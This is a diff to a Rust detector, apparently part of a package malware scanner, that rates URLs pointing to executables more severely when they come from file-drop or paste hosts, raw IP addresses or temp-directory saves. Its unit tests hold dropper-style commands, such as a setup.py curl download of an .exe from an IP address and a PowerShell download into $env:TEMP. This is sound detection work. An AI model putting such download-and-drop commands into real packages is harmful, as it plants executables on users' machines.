@@ -3,16 +3,22 @@
 //! .msi .apk .jar .zip .7z .rar .docm .xlsm …`).
 //!
 //! Executables and scripts are medium (they are what droppers fetch), archives and
-//! documents low; install-time files raise by one. URLs follow [`super::urls`] rules.
+//! documents low; install-time files raise by one. An executable fetched from a file
+//! drop or paste site ([`super::reputation`], Discord CDN attachments included) or an
+//! IP-literal host, or saved into the temp dir / AppData on the same line (a command
+//! string such as `curl -o %TEMP%\x.exe …`), is high (install critical); any other
+//! file on a file drop is medium. URLs follow [`super::urls`] rules, command strings
+//! included.
 
 use super::pysrc::{self, MAX_HITS_PER_FILE};
+use super::reputation::{self, Class};
 use super::urls;
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.interesting-file-url",
-    revision: 1,
+    revision: 2,
     title: "Contains URLs that link to interesting file formats.",
     category: Category::Network,
     severity: Severity::Low,
@@ -71,13 +77,20 @@ impl Detector for InterestingFileUrl {
             .filter_map(|u| extension(u.path).map(|e| (u, e)))
             .take(MAX_HITS_PER_FILE)
         {
-            let (u, (ext, exec)) = u;
-            let sev = match (exec, install) {
-                (true, true) => Severity::High,
-                (true, false) | (false, true) => Severity::Medium,
-                (false, false) => Severity::Low,
+            let (u, (_, exec)) = u;
+            let drop = matches!(reputation::of_url(&u.host, u.path), Some(Class::FileDrop | Class::Paste));
+            let raw_ip = super::net_ip_address::public_ip(&u.host);
+            let line = pysrc::snippet(file.text, u.offset).to_ascii_lowercase();
+            let into_temp = ["%temp%", "$env:temp", "appdata", "gettempdir", "/tmp/", "%localappdata%"]
+                .iter()
+                .any(|t| line.contains(t));
+            let sev = match (exec, exec && (drop || raw_ip || into_temp), install) {
+                (_, true, true) => Severity::Critical,
+                (_, true, false) | (true, false, true) => Severity::High,
+                (true, false, false) | (false, _, true) => Severity::Medium,
+                (false, _, false) if drop => Severity::Medium,
+                (false, _, false) => Severity::Low,
             };
-            let _ = ext;
             hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, u.offset, u.url) });
         }
     }
@@ -123,6 +136,41 @@ mod tests {
                     Runtime,
                     "U = 'https://example.org/x.XLSM'\n",
                     Some((1, "https://example.org/x.XLSM", Low)),
+                ),
+                (
+                    "exe on a discord attachment",
+                    "pkg/a.py",
+                    Runtime,
+                    "U = 'https://cdn.discordapp.com/attachments/1/2/update.exe'\n",
+                    Some((1, "https://cdn.discordapp.com/attachments/1/2/update.exe", High)),
+                ),
+                (
+                    "exe from a raw IP in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "os.system('curl -o a.exe http://45.77.12.9/a.exe')\n",
+                    Some((1, "http://45.77.12.9/a.exe", Critical)),
+                ),
+                (
+                    "exe saved into temp in a command string",
+                    "pkg/a.py",
+                    Runtime,
+                    "cmd = 'powershell iwr https://example.org/u.exe -OutFile $env:TEMP\\\\u.exe'\n",
+                    Some((1, "https://example.org/u.exe", High)),
+                ),
+                (
+                    "archive on a file drop",
+                    "pkg/a.py",
+                    Runtime,
+                    "U = 'https://transfer.sh/abc/data.zip'\n",
+                    Some((1, "https://transfer.sh/abc/data.zip", Medium)),
+                ),
+                (
+                    "discord avatar image is not a drop",
+                    "pkg/a.py",
+                    Runtime,
+                    "U = 'https://cdn.discordapp.com/avatars/1/a.zip'\n",
+                    Some((1, "https://cdn.discordapp.com/avatars/1/a.zip", Low)),
                 ),
                 ("html page", "pkg/a.py", Runtime, "U = 'https://example.org/index.html'\n", None),
                 ("js asset", "pkg/a.py", Runtime, "U = 'https://cdn.example.org/app.js'\n", None),
